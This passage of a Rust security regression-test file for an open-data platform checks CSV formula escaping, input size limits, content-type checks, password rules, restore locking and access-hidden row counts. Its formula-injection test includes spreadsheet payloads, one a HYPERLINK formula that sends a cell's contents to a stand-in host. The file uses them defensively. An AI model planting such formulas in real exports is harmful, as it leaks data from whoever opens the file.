        assert_eq!(get_as(&app, Some(&token), "/api/v1/me").await.status, StatusCode::OK, "{engine:?}: signed in");
        let r = get_as(&app, Some(&token), "/api/v1/datasets/van-ban/records").await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{engine:?}: {}", r.text());
        assert!(!r.text().contains("12/QĐ-UBND"));
    }
}

// ---------------------------------------------------------------------------
// 6. Formulas in CSV are neutralised; numbers are not.

/// The cells of a CSV file, header first.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// One column of a CSV file (without its header).
fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0].iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

const FORMULAS: &str = "ma,ghi_chu,so,ty_le\nA1,\"=HYPERLINK(\"\"x\"\")\",-5,-2.5\nA2,+1,3,1\nA3,-2+3,-7,0\nA4,@SUM(A1),0,-0.25\n";

/// Before the fix every CSV the platform wrote (exports, the Data Package,
/// the audit log) held text verbatim, so `=HYPERLINK("x")` typed into a
/// dataset (or sent as a username) ran as a formula in the spreadsheet of
/// whoever opened the download; and the Data Package left the datasets a
/// caller could not read out without a word.
#[tokio::test]
async fn formula_like_text_gets_a_leading_quote_in_every_csv_while_numbers_stay_numbers() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        let schema = json!({"fields": [
            {"name": "ma", "type": "string"}, {"name": "ghi_chu", "type": "string"},
            {"name": "so", "type": "integer"}, {"name": "ty_le", "type": "number"}
        ], "primaryKey": "ma"});
        create(&app, "cong-thuc", 26, "open", schema.clone()).await;
        create(&app, "han-che", 26, "specific", schema).await;
        import_csv(&app, "cong-thuc", ImportMode::Append, FORMULAS).await;
        import_csv(&app, "han-che", ImportMode::Append, "ma,ghi_chu\nB1,bí mật\n").await;
        let escaped = vec!["'=HYPERLINK(\"x\")", "'+1", "'-2+3", "'@SUM(A1)"];
        let raw = vec!["=HYPERLINK(\"x\")", "+1", "-2+3", "@SUM(A1)"];
        let numbers = |rows: &[Vec<String>]| (column(rows, "so"), column(rows, "ty_le"));
        let expected_numbers = (vec!["-5", "3", "-7", "0"], vec!["-2.5", "1", "0", "-0.25"]);

        let export = app.get("/api/v1/datasets/cong-thuc/export.csv").await;
        assert_eq!(export.status, StatusCode::OK, "{engine:?}");
        let rows = csv_rows(&export.body);
        assert_eq!(column(&rows, "ghi_chu"), escaped, "{engine:?}: export.csv");
        assert_eq!(
            numbers(&rows),
            (expected_numbers.0.iter().map(|s| s.to_string()).collect(), expected_numbers.1.iter().map(|s| s.to_string()).collect()),
            "{engine:?}"
        );
        let rows = csv_rows(&app.get("/api/v1/datasets/cong-thuc/export.csv?escape_formulas=false").await.body);
        assert_eq!(column(&rows, "ghi_chu"), raw, "{engine:?}: escape_formulas=false gives the values as stored");

        // The Data Package: the same cells, and the left-out dataset named.
        let zip = app.get("/api/v1/databases/26/datapackage.zip").await;
        assert_eq!(zip.status, StatusCode::OK, "{engine:?}: {}", zip.text());
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip.body)).unwrap();
        let mut csv = Vec::new();
        archive.by_name("data/cong-thuc.csv").unwrap().read_to_end(&mut csv).unwrap();
        let rows = csv_rows(&csv);
        assert_eq!(column(&rows, "ghi_chu"), escaped, "{engine:?}: datapackage");
        assert_eq!(column(&rows, "so"), expected_numbers.0, "{engine:?}");
        assert!(archive.by_name("data/han-che.csv").is_err(), "{engine:?}: a restricted dataset is not in the public's package");
        let mut meta = String::new();
        archive.by_name("datapackage.json").unwrap().read_to_string(&mut meta).unwrap();
        let meta: Value = serde_json::from_str(&meta).unwrap();
        let omitted = meta["chiase:omitted"].as_array().unwrap_or_else(|| panic!("{engine:?}: {meta}"));
        assert_eq!(omitted.len(), 1, "{engine:?}: {omitted:?}");
        assert_eq!(omitted[0]["name"], "han-che");
        assert!(!omitted[0]["reason"].as_str().unwrap().is_empty() && !omitted[0]["reason_en"].as_str().unwrap().is_empty(), "{omitted:?}");
        assert!(meta["resources"].as_array().unwrap().iter().any(|r| r["name"] == "cong-thuc"));
        // The package takes the same flag as exports, and refuses a typo
        // rather than writing an unprotected file.
        let zip = app.get("/api/v1/databases/26/datapackage.zip?escape_formulas=false").await;
        assert_eq!(zip.status, StatusCode::OK, "{engine:?}: {}", zip.text());
        let mut csv = Vec::new();
        zip::ZipArchive::new(std::io::Cursor::new(zip.body)).unwrap().by_name("data/cong-thuc.csv").unwrap().read_to_end(&mut csv).unwrap();
        assert_eq!(column(&csv_rows(&csv), "ghi_chu"), raw, "{engine:?}: datapackage escape_formulas=false");
        for bad in ["escape_formulas=yes", "escape_formula=false"] {
            let r = app.get(&format!("/api/v1/databases/26/datapackage.zip?{bad}")).await;
            assert_eq!(r.status, StatusCode::BAD_REQUEST, "{engine:?}: {bad}: {}", r.text());
        }

        // The audit log: a username is whatever a client sends.
        let evil = "=HYPERLINK(\"http://x.example/?\"&A1)";
        assert_eq!(
            as_(&app, None, Method::POST, "/api/v1/session", json!({"username": evil, "password": "sai-mat-khau-roi-day"})).await.status,
            StatusCode::UNAUTHORIZED
        );
        let audit = get_as(&app, Some(&admin), "/api/v1/audit?format=csv&action=sign_in_failed").await;
        assert_eq!(audit.status, StatusCode::OK, "{engine:?}: {}", audit.text());
        let rows = csv_rows(&audit.body);
        assert_eq!(column(&rows, "target"), vec![format!("'{evil}")], "{engine:?}: audit csv");
        let seq = column(&rows, "seq");
        assert!(seq[0].parse::<i64>().is_ok(), "{engine:?}: numbers untouched: {seq:?}");
        let rows = csv_rows(&get_as(&app, Some(&admin), "/api/v1/audit?format=csv&action=sign_in_failed&escape_formulas=false").await.body);
        assert_eq!(column(&rows, "target"), vec![evil.to_string()], "{engine:?}");
    }
}

/// Found while writing these tests: the export read `escape_formulas` (and
/// `bom`) as "true or 1, else false", so a typo such as
/// `escape_formulas=yes` or `=TRUE` silently turned the protection off,
/// where every other parameter of the API answers 400 naming the mistake.
#[tokio::test]
async fn an_export_flag_that_is_neither_true_nor_false_is_refused_not_read_as_false() {
    let app = TestApp::spawn(Engine::Sqlite).await;
    let schema = json!({"fields": [{"name": "ma", "type": "string"}, {"name": "ghi_chu", "type": "string"}], "primaryKey": "ma"});
    create(&app, "cong-thuc", 26, "open", schema).await;
    import_csv(&app, "cong-thuc", ImportMode::Append, "ma,ghi_chu\nA1,=1+1\n").await;
    for query in ["escape_formulas=yes", "escape_formulas=TRUE", "escape_formulas=on", "bom=maybe"] {
        let r = app.get(&format!("/api/v1/datasets/cong-thuc/export.csv?{query}")).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{query}: {}", r.text());
        let name = query.split('=').next().unwrap();
        assert!(r.json()["error"]["message_en"].as_str().unwrap().contains(name), "{query}: {}", r.text());
        assert!(!r.text().contains("=1+1"), "{query}");
    }
    for (query, cell) in [("escape_formulas=true", "'=1+1"), ("escape_formulas=1", "'=1+1"), ("escape_formulas=0", "=1+1"), ("", "'=1+1")] {
        let r = app.get(&format!("/api/v1/datasets/cong-thuc/export.csv?{query}")).await;
        assert_eq!(r.status, StatusCode::OK, "{query}: {}", r.text());
        assert_eq!(column(&csv_rows(&r.body), "ghi_chu"), vec![cell.to_string()], "{query}");
    }
}

// ---------------------------------------------------------------------------
// 7. Bounded input.

/// A file of `len` bytes of `x` (one endless first line), made as it is
/// read: nothing is held in memory.
struct EndlessLine {
    left: u64,
    served: Arc<AtomicU64>,
}

impl Read for EndlessLine {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = (buf.len() as u64).min(self.left) as usize;
        buf[..n].fill(b'x');
        self.left -= n as u64;
        self.served.fetch_add(n as u64, Ordering::Relaxed);
        Ok(n)
    }
}

/// Before the fix a reader buffered a whole line, however long: a 300 MB
/// first line became 300 MB (and more) of memory before anything was
/// refused.
#[tokio::test]
async fn an_import_whose_first_line_is_300_mb_is_refused_after_a_few_mb_naming_the_line_limit() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        create(&app, "dai", 26, "open", json!({"fields": [{"name": "ma", "type": "string"}, {"name": "ten", "type": "string"}]})).await;
        let served = Arc::new(AtomicU64::new(0));
        let progress = Arc::new(Progress::default());
        let req = ImportRequest {
            mode: ImportMode::Append,
            source_name: Some("dai.csv".into()),
            content_type: Some("text/csv".into()),
            options: Default::default(),
            allow_empty: false,
            handling: Default::default(),
        };
        let started = Instant::now();
        let source = EndlessLine { left: 300 * 1024 * 1024, served: served.clone() };
        let outcome = imports::import(&app.state, &app.operator(), "dai", req, Box::new(source), u64::MAX, progress.clone()).await;
        let e = match outcome {
            Err(e) => e,
            Ok(ImportOutcome::Rejected(r)) => panic!("{engine:?}: expected a refusal of the file, got a report {:?}", r.errors),
            Ok(ImportOutcome::Done(s)) => panic!("{engine:?}: imported {s:?}"),
        };
        assert!(e.status.is_client_error(), "{engine:?}: {} {}", e.status, e.msg.en);
        assert!(e.msg.en.contains(&format!("longer than {} bytes", chiase_io::limits::MAX_LINE_BYTES)), "{engine:?}: {}", e.msg.en);
        assert!(e.msg.en.starts_with("line 1"), "{engine:?}: {}", e.msg.en);
        let read = progress.bytes.load(Ordering::Relaxed);
        assert!(read < 8 * 1024 * 1024, "{engine:?}: read {read} bytes");
        assert!(served.load(Ordering::Relaxed) < 8 * 1024 * 1024);
        assert!(started.elapsed() < Duration::from_secs(20), "{engine:?}: took {:?}", started.elapsed());
        assert_eq!(chiase_store::testing::row_count(&app.store().dataset("dai").await.unwrap().unwrap()), 0);
    }
}

/// Before the fix the body of a schema inference was buffered whole under a
/// 20 MB limit: a 30 MB file was refused with 413 instead of sampled.
#[tokio::test]
async fn schema_inference_of_a_30_mb_file_answers_from_a_bounded_sample() {
    let app = TestApp::spawn(Engine::Sqlite).await;
    let mut body = String::from("ghi_chu\n");
    let mut lines = 0u64;
    while body.len() < 30 * 1024 * 1024 {
        body.push_str(&format!("Ghi chú số {lines:08} {}\n", "x".repeat(380)));
        lines += 1;
    }
    let r = app
        .request(Method::POST, "/api/v1/schema/infer?name=lon.csv&sample=100000", &[("content-type", "text/csv")], body.into_bytes())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let p = r.json();
    let sampled = p["rows_sampled"].as_u64().unwrap();
    assert!(sampled > 0 && sampled < lines, "sampled {sampled} of {lines}");
    assert!(sampled * 400 <= 21 * 1024 * 1024, "at most about 20 MiB sampled: {sampled} rows");
    assert_eq!(p["schema"]["fields"][0]["name"], "ghi_chu");
    assert_eq!(p["schema"]["fields"][0]["type"], "string");
    let warnings = p["warnings"].as_array().cloned().unwrap_or_default();
    assert!(warnings.iter().any(|w| w["en"].as_str().unwrap_or("").contains("MiB")), "the proposal says the sample was cut: {p}");
}

/// Found while writing these tests: the HTTP layer cut the body at exactly
/// the sampler's bound (20 MiB), so the sampler never saw that it had been
/// cut (no warning) and sampled the cut last line as a row: a column of
/// dates whose last sampled value was cut to `2024-0` was proposed as text.
#[tokio::test]
async fn schema_inference_never_samples_a_line_cut_at_the_byte_bound() {
    let app = TestApp::spawn(Engine::Sqlite).await;
    let header = "ghi_chu,ngay\n";
    let bound = chiase_io::infer::MAX_SAMPLE_BYTES as usize;
    // Lines of `pad` x's and a date, so long that 100,000 of them pass the
    // bound, with `pad` chosen so the bound falls inside a date (say `2024-0|1-15`).
    let pad = (210..600).find(|p| ((p + 3)..=(p + 10)).contains(&((bound - header.len()) % (p + 12)))).expect("a line length");
    let line = format!("{},2024-01-15\n", "x".repeat(pad));
    let mut body = String::from(header);
    while body.len() < 30 * 1024 * 1024 {
        body.push_str(&line);
    }
    let r = app
        .request(Method::POST, "/api/v1/schema/infer?name=ngay.csv&sample=100000", &[("content-type", "text/csv")], body.into_bytes())
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let p = r.json();
    assert_eq!(p["schema"]["fields"][1]["name"], "ngay");
    assert_eq!(p["schema"]["fields"][1]["type"], "date", "every sampled value is a whole date: {}", p["schema"]);
    assert!(p["rows_sampled"].as_u64().unwrap() < 100_000);
}

// ---------------------------------------------------------------------------
// 8. JSON bodies only, and a JSON 413.

/// Before the fix JSON endpoints parsed any body whatever its type (a
/// cross-site HTML form could post JSON text as `text/plain`), and a body
/// over the limit got axum's plain-text 413, not the API's JSON error.
#[tokio::test]
async fn a_form_body_to_a_json_endpoint_is_415_and_an_oversized_body_is_a_json_413() {
    let app = TestApp::spawn(Engine::Sqlite).await;
    app.person("cong.dan", None, Role::Member, PASSWORD).await;
    let json_text = json!({"username": "cong.dan", "password": PASSWORD}).to_string();
    for ct in ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x"] {
        let r = app.request(Method::POST, "/api/v1/session", &[("content-type", ct)], json_text.clone().into_bytes()).await;
        assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{ct}");
        let e = r.json();
        assert_eq!(e["error"]["code"], "unsupported_media_type", "{ct}");
        assert!(e["error"]["message"].is_string() && e["error"]["message_en"].is_string());
        assert!(r.headers.get("set-cookie").is_none(), "{ct}: no session");
    }
    let r =
        app.request(Method::POST, "/api/v1/session", &[("content-type", "application/json; charset=utf-8")], json_text.into_bytes()).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());

    // 3 MB of JSON to a route with axum's default limit (2 MB).
    let big = json!({"username": "cong.dan", "password": "x".repeat(3 * 1024 * 1024)}).to_string().into_bytes();
    let r = app.request(Method::POST, "/api/v1/session", &[("content-type", "application/json")], big).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", r.text());
    assert!(r.headers["content-type"].to_str().unwrap().starts_with("application/json"));
    let e = r.json();
    assert_eq!(e["error"]["code"], "too_large");
    assert!(e["error"]["message"].as_str().is_some_and(|m| !m.is_empty()));
    assert!(e["error"]["message_en"].as_str().is_some_and(|m| !m.is_empty()));
    assert_eq!(events(&app, "sign_in_failed").await.len(), 0, "nothing was checked");
}

// ---------------------------------------------------------------------------
// 9. Passwords that are blank after trimming; bounded token names.

/// Before the fix a password only needed 12 characters, spaces included,
/// and a token's name was stored as sent, of any length.
#[tokio::test]
async fn a_password_of_spaces_and_a_token_name_of_101_characters_are_refused() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        let user = |pw: &str| json!({"username": "cong.dan", "role": "member", "password": pw});
        for blank in [" ".repeat(20), "\t".repeat(16), format!("{}\u{3000}", " ".repeat(15))] {
            let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users", user(&blank)).await;
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?} {blank:?}: {}", r.text());
            assert!(r.json()["error"]["fields"]["password"].is_array(), "{engine:?}");
        }
        assert!(app.store().user("cong.dan").await.unwrap().is_none(), "{engine:?}");
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/users", user(PASSWORD)).await;
        assert_eq!(r.status, StatusCode::CREATED, "{engine:?}: {}", r.text());
        let e = chiase_server::usecase::accounts::set_password(&app.state, &app.operator(), "cong.dan", &" ".repeat(30)).await.unwrap_err();
        assert_eq!(e.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?}: setting a password checks it too");

        let long = "t".repeat(101);
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/me/tokens", json!({"name": long})).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?}: {}", r.text());
        let listed = get_as(&app, Some(&admin), "/api/v1/me/tokens").await.json();
        assert!(listed["results"].as_array().unwrap().iter().all(|t| t["name"] != long), "{engine:?}");
        let r = as_(&app, Some(&admin), Method::POST, "/api/v1/me/tokens", json!({"name": "t".repeat(100)})).await;
        assert_eq!(r.status, StatusCode::CREATED, "{engine:?}: 100 characters are fine: {}", r.text());
    }
}

// ---------------------------------------------------------------------------
// 10. `chiase restore` refuses while a server uses the data directory.

fn set_aside(dir: &std::path::Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.starts_with("chiase.db.before-restore"))
        .collect()
}

/// Before the fix `restore` looked for a running server by taking an online
/// backup of the live database, which succeeds while a server runs (SQLite
/// backs up beside readers and writers): it moved the database away from
/// under a running server.
#[tokio::test]
async fn restore_refuses_while_a_server_holds_the_data_directory_and_restores_once_it_stopped() {
    let source = TestApp::spawn(Engine::Sqlite).await;
    create(&source, "sao-luu", 26, "open", json!({"fields": [{"name": "ma", "type": "string"}]})).await;
    import_csv(&source, "sao-luu", ImportMode::Append, "ma\nA\nB\n").await;
    let dir = tempfile::tempdir().unwrap();
    let backup = dir.path().join("backup.db");
    source.store().backup_sqlite(&backup).await.unwrap();

    let data = dir.path().join("data");
    let cfg = chiase_server::config::Config { data_dir: data.clone(), ..Default::default() };
    let live = chiase_server::commands::open_store(&cfg).await.unwrap();
    assert!(live.dataset("sao-luu").await.unwrap().is_none());
    live.close().await;

    // A server holds the lock, as `chiase serve` does.
    let lock = chiase_server::config::lock_shared(&data).unwrap();
    let err = chiase_server::commands::ops::restore(cfg.clone(), &backup).await.expect_err("refused while a server runs");
    let msg = format!("{err:#}");
    assert!(msg.contains("stop it first") && msg.contains("dừng nó trước"), "{msg}");
    assert!(set_aside(&data).is_empty(), "nothing was moved");
    let live = chiase_server::commands::open_store(&cfg).await.unwrap();
    assert!(live.dataset("sao-luu").await.unwrap().is_none(), "the live database is untouched");
    live.close().await;

    // Stopped: the restore goes through, keeping the old database aside.
    drop(lock);
    chiase_server::commands::ops::restore(cfg.clone(), &backup).await.unwrap();
    assert_eq!(set_aside(&data).len(), 1);
    let restored = chiase_server::commands::open_store(&cfg).await.unwrap();
    assert_eq!(chiase_store::testing::row_count(&restored.dataset("sao-luu").await.unwrap().expect("restored")), 2);
    assert!(restored.verify_audit(&operator_data::verify()).await.unwrap().ok);
    let restores = restored
        .audit_events(
            &operator_data::audit(),
            &chiase_store::audit::AuditFilter { action: Some("restore".into()), limit: 10, ..Default::default() },
        )
        .await
        .unwrap();
    assert_eq!(restores.len(), 1, "the restore is in the restored audit log");
    restored.close().await;
}

// ---------------------------------------------------------------------------
// 11. The demo never overwrites rows it did not write.

/// Before the fix `chiase demo` replaced the rows of every synthetic
/// dataset on each run, including rows a steward had imported into it
/// since: real data was overwritten by generated data.
#[tokio::test]
async fn running_the_demo_again_leaves_alone_datasets_holding_rows_someone_else_wrote() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let op = app.operator();
        let left_alone = |o: &chiase_server::usecase::demo::DemoOutcome, id: &str| {
            o.left_alone.iter().find(|(d, _)| d == id).map(|(_, why)| why.clone())
        };
        // A real dataset made from a template before the demo ever ran.
        let ocop = chiase_io::templates::by_id("san-pham-ocop").unwrap();
        chiase_server::usecase::datasets::create(&app.state, &op, chiase_server::usecase::demo::from_template(&ocop).unwrap())
            .await
            .unwrap();

        let first = chiase_server::usecase::demo::load(&app.state, &op, Some(5), 1).await.unwrap();
        assert!(first.filled.iter().any(|d| d == "di-tich"), "{engine:?}: {:?}", first.filled);
        assert!(left_alone(&first, "san-pham-ocop").unwrap().contains("real dataset"), "{engine:?}: {:?}", first.left_alone);
        assert!(!first.filled.iter().any(|d| d == "san-pham-ocop"));

        // A steward's import lands in the synthetic dataset.
        let rows: Vec<Value> = serde_json::from_slice(&app.get("/api/v1/datasets/di-tich/export.json").await.body).unwrap();
        assert_eq!(rows.len(), 5, "{engine:?}");
        let mut real = rows[0].clone();
        real.as_object_mut().unwrap().remove("_id");
        real["ten_di_tich"] = json!("Đình Tân Trào (số liệu thật)");
        match app.import("di-tich", "kiem-ke-2025.json", serde_json::to_vec(&json!([real])).unwrap(), ImportMode::Upsert).await {
            Ok(ImportOutcome::Done(s)) => assert_eq!(s.updated, 1, "{engine:?}"),
            Ok(ImportOutcome::Rejected(r)) => panic!("{engine:?}: {:?}", r.errors),
            Err(e) => panic!("{engine:?}: {}", e.msg),
        }
        let before = app.get("/api/v1/datasets/di-tich/export.json").await.body;

        let second = chiase_server::usecase::demo::load(&app.state, &op, Some(7), 2).await.unwrap();
        assert!(!second.filled.iter().any(|d| d == "di-tich"), "{engine:?}: {:?}", second.filled);
        assert!(left_alone(&second, "di-tich").unwrap().contains("someone else"), "{engine:?}: {:?}", second.left_alone);
        assert!(left_alone(&second, "san-pham-ocop").is_some(), "{engine:?}");
        assert_eq!(app.get("/api/v1/datasets/di-tich/export.json").await.body, before, "{engine:?}: the dataset is unchanged");
        let names: Vec<Value> = serde_json::from_slice(&before).unwrap();
        assert!(names.iter().any(|r| r["ten_di_tich"] == "Đình Tân Trào (số liệu thật)"));
        // Demo-only datasets are still refilled; the real one stays empty.
        assert!(second.filled.iter().any(|d| d == "truong-hoc"), "{engine:?}");
        assert_eq!(app.get_ok("/api/v1/datasets/truong-hoc").await["row_count"], 7, "{engine:?}");
        assert_eq!(chiase_store::testing::row_count(&app.store().dataset("san-pham-ocop").await.unwrap().unwrap()), 0);
    }
}

// ---------------------------------------------------------------------------
// 12. A replace import of no rows deletes nothing unless asked.

/// Before the fix an import in `replace` mode of a file with a header and no
/// rows emptied the dataset: one bad export or an empty sheet deleted
/// every row.
#[tokio::test]
async fn a_replace_import_of_a_file_without_rows_deletes_nothing_unless_allow_empty_is_given() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let steward = app.person("tttt.steward", Some(TTTT), Role::Steward, PASSWORD).await;
        create(
            &app,
            "thay-the",
            26,
            "open",
            json!({"fields": [{"name": "ma", "type": "string"}, {"name": "ten", "type": "string"}], "primaryKey": "ma"}),
        )
        .await;
        import_csv(&app, "thay-the", ImportMode::Append, "ma,ten\nA,Một\nB,Hai\n").await;
        let auth = format!("Bearer {steward}");
        let post = |query: &'static str| {
            let auth = auth.clone();
            let app = &app;
            async move {
                app.request(
                    Method::POST,
                    &format!("/api/v1/datasets/thay-the/import?mode=replace&name=rong.csv{query}"),
                    &[("authorization", &auth), ("content-type", "text/csv")],
                    b"ma,ten\n".to_vec(),
                )
                .await
            }
        };
        let r = post("").await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{engine:?}: {}", r.text());
        let e = r.json();
        assert!(e["error"]["fields"]["allow_empty"].is_array(), "{engine:?}: {e}");
        assert!(e["error"]["message_en"].as_str().unwrap().contains("allow_empty=true"));
        assert_eq!(total(&app, None, "/api/v1/datasets/thay-the/records").await, 2, "{engine:?}: nothing deleted");
        assert_eq!(app.get_ok("/api/v1/datasets/thay-the/changes").await["last_seq"], 2, "{engine:?}: no change written");
        assert_eq!(events(&app, "import").await.len(), 1, "{engine:?}: only the first import");

        let r = post("&allow_empty=true").await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.text());
        assert_eq!(r.json()["row_count"], 0);
        assert_eq!(total(&app, None, "/api/v1/datasets/thay-the/records").await, 0, "{engine:?}");
    }
}

// ---------------------------------------------------------------------------
// 13. Row counts of datasets a caller may not read are hidden.

fn period() -> Value {
    let today = chrono::Utc::now().date_naive();
    json!({ "from": today.to_string(), "to": (today + chrono::Duration::days(90)).to_string() })
}

/// Dataset `can-bo` as listed in `/api/v1/datasets` and as shown alone.
async fn seen(app: &TestApp, token: Option<&str>) -> (Value, Value) {
    let list = get_as(app, token, "/api/v1/datasets").await.json();
    let listed = list["results"].as_array().unwrap().iter().find(|d| d["id"] == "can-bo").unwrap().clone();
    let shown = get_as(app, token, "/api/v1/datasets/can-bo").await.json();
    (listed, shown)
}

/// Before the fix every dataset listed showed its row count, last change
/// number and last change time to anyone: how many civil servants a
/// specific dataset held, and when it moved.
#[tokio::test]
async fn a_consumer_sees_the_row_count_of_a_specific_dataset_only_with_an_approved_grant() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let owner = app.person("noivu.steward", Some(NOI_VU), Role::Steward, PASSWORD).await;
        let consumer = app.person("tttt.member", Some(TTTT), Role::Member, PASSWORD).await;
        let other = app.person("tuphap.member", Some("so-tu-phap"), Role::Member, PASSWORD).await;
        create(
            &app,
            "can-bo",
            4,
            "specific",
            json!({"fields": [{"name": "ma", "type": "string"}, {"name": "don_vi", "type": "string"}], "primaryKey": "ma"}),
        )
        .await;
        import_csv(&app, "can-bo", ImportMode::Append, "ma,don_vi\nCB01,Văn phòng\nCB02,Phòng Tổ chức\nCB03,Thanh tra\n").await;
        let r = as_(
            &app,
            Some(&consumer),
            Method::POST,
            "/api/v1/requests",
            json!({"dataset": "can-bo", "purpose": "Thống kê cán bộ", "period": period()}),
        )
        .await;
        assert_eq!(r.status, StatusCode::CREATED, "{engine:?}: {}", r.text());
        let id = r.json()["id"].as_i64().unwrap();
        // Pending: the consumer is told nothing yet.
        let (listed, _) = seen(&app, Some(&consumer)).await;
        assert!(listed["row_count"].is_null() && listed["readable"] == false, "{engine:?}: {listed}");

        let ok = as_(&app, Some(&owner), Method::POST, &format!("/api/v1/requests/{id}/approve"), json!({})).await;
        assert_eq!(ok.status, StatusCode::OK, "{engine:?}: {}", ok.text());
        for (who, token, readable) in [
            ("consumer with a grant", Some(consumer.clone()), true),
            ("owner", Some(owner.clone()), true),
            ("another agency", Some(other.clone()), false),
            ("anonymous", None, false),
        ] {
            let (listed, shown) = seen(&app, token.as_deref()).await;
            for (surface, d) in [("list", &listed), ("show", &shown)] {
                assert_eq!(d["readable"], readable, "{engine:?} {who} {surface}: {d}");
                if readable {
                    assert_eq!(d["row_count"], 3, "{engine:?} {who} {surface}");
                    assert_eq!(d["last_seq"], 3, "{engine:?} {who} {surface}");
                    assert!(d["data_updated_at"].is_string());
                } else {
                    for hidden in ["row_count", "last_seq", "data_updated_at"] {
                        assert!(d[hidden].is_null(), "{engine:?} {who} {surface} {hidden}: {d}");
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------
// 14. The web sign-in's source, XLSX on a blocking thread, unique races.

/// Posts the sign-in form of cong.dan as if through a proxy that says the
/// client is `forwarded_for`.
async fn post_login(app: &TestApp, cookie: &str, csrf: &str, forwarded_for: &str, password: &str) -> Resp {
    app.request(
        Method::POST,
        "/login",
        &[("content-type", "application/x-www-form-urlencoded"), ("cookie", cookie), ("x-forwarded-for", forwarded_for)],
        form(&[("csrf", csrf), ("username", "cong.dan"), ("password", password)]),
    )
    .await
}

/// Before the fix the sign-in form built its caller without an address, so
/// the audit log's `sign_in` and `sign_in_failed` events from the web had
/// no source: nobody could tell where a web sign-in came from.
#[tokio::test]
async fn a_sign_in_through_the_web_form_records_the_clients_address() {
    for engine in engines() {
        let app = TestApp::spawn_with(engine, |c| c.trust_proxy = true).await;
        app.person("cong.dan", None, Role::Member, PASSWORD).await;
        let page = app.get("/login").await;
        assert_eq!(page.status, StatusCode::OK);
        let (cookie, csrf) = (set_cookie(&page, "chiase_form_csrf"), form_csrf(&page.text()));
        let failed = post_login(&app, &cookie, &csrf, "203.0.113.5, 10.0.0.1", "sai-mat-khau-roi-day").await;
        assert_eq!(failed.status, StatusCode::UNAUTHORIZED, "{engine:?}");
        let ok = post_login(&app, &cookie, &csrf, "203.0.113.5, 10.0.0.1", PASSWORD).await;
        assert!(ok.status.is_redirection(), "{engine:?}: {}", ok.status);
        assert!(set_cookie(&ok, "chiase_session").len() > "chiase_session=".len());
        let failed = events(&app, "sign_in_failed").await;
        assert_eq!(failed.len(), 1, "{engine:?}");
        assert_eq!(failed[0].source.as_deref(), Some("203.0.113.5"), "{engine:?}");
        let signed = events(&app, "sign_in").await;
        assert_eq!(signed.len(), 1, "{engine:?}");
        assert_eq!((signed[0].actor.as_str(), signed[0].source.as_deref()), ("user:cong.dan", Some("203.0.113.5")), "{engine:?}");
    }
    // Without a trusted proxy the peer's address is recorded, whatever the header says.
    let app = TestApp::spawn(Engine::Sqlite).await;
    app.person("cong.dan", None, Role::Member, PASSWORD).await;
    let page = app.get("/login").await;
    let r = post_login(&app, &set_cookie(&page, "chiase_form_csrf"), &form_csrf(&page.text()), "203.0.113.5", PASSWORD).await;
    assert!(r.status.is_redirection());
    assert_eq!(events(&app, "sign_in").await[0].source.as_deref(), Some("127.0.0.1"));
}

/// Before the fix the XLSX export wrote and saved the workbook on an async
/// worker thread, stalling every request scheduled on it for the length of
/// the export. It is now written on a blocking thread fed page by page.
/// Unlike the others, this test guards the rewrite rather than showing the
/// old failure (which was one of latency, not of output): the file must
/// still be a workbook with every row, across pages and engines.
#[tokio::test]
async fn the_xlsx_export_written_on_a_blocking_thread_opens_as_a_workbook_with_every_row() {
    use calamine::{Data, Reader};
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let schema = json!({"fields": [{"name": "ma", "type": "string"}, {"name": "ten", "type": "string"}, {"name": "so", "type": "integer"}], "primaryKey": "ma"});
        create(&app, "bang-tinh", 26, "open", schema).await;
        let mut csv = String::from("ma,ten,so\n");
        for i in 1..=6000 {
            csv.push_str(&format!("R{i:05},Dòng số {i},{}\n", i as i64 - 3000));
        }
        import_csv(&app, "bang-tinh", ImportMode::Append, &csv).await;
        let r = app.get("/api/v1/datasets/bang-tinh/export.xlsx").await;
        assert_eq!(r.status, StatusCode::OK, "{engine:?}: {}", r.text());
        assert!(r.headers["content-type"].to_str().unwrap().contains("spreadsheetml"), "{engine:?}");
        let mut book = calamine::open_workbook_auto_from_rs(std::io::Cursor::new(r.body)).expect("an XLSX workbook");
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).unwrap();
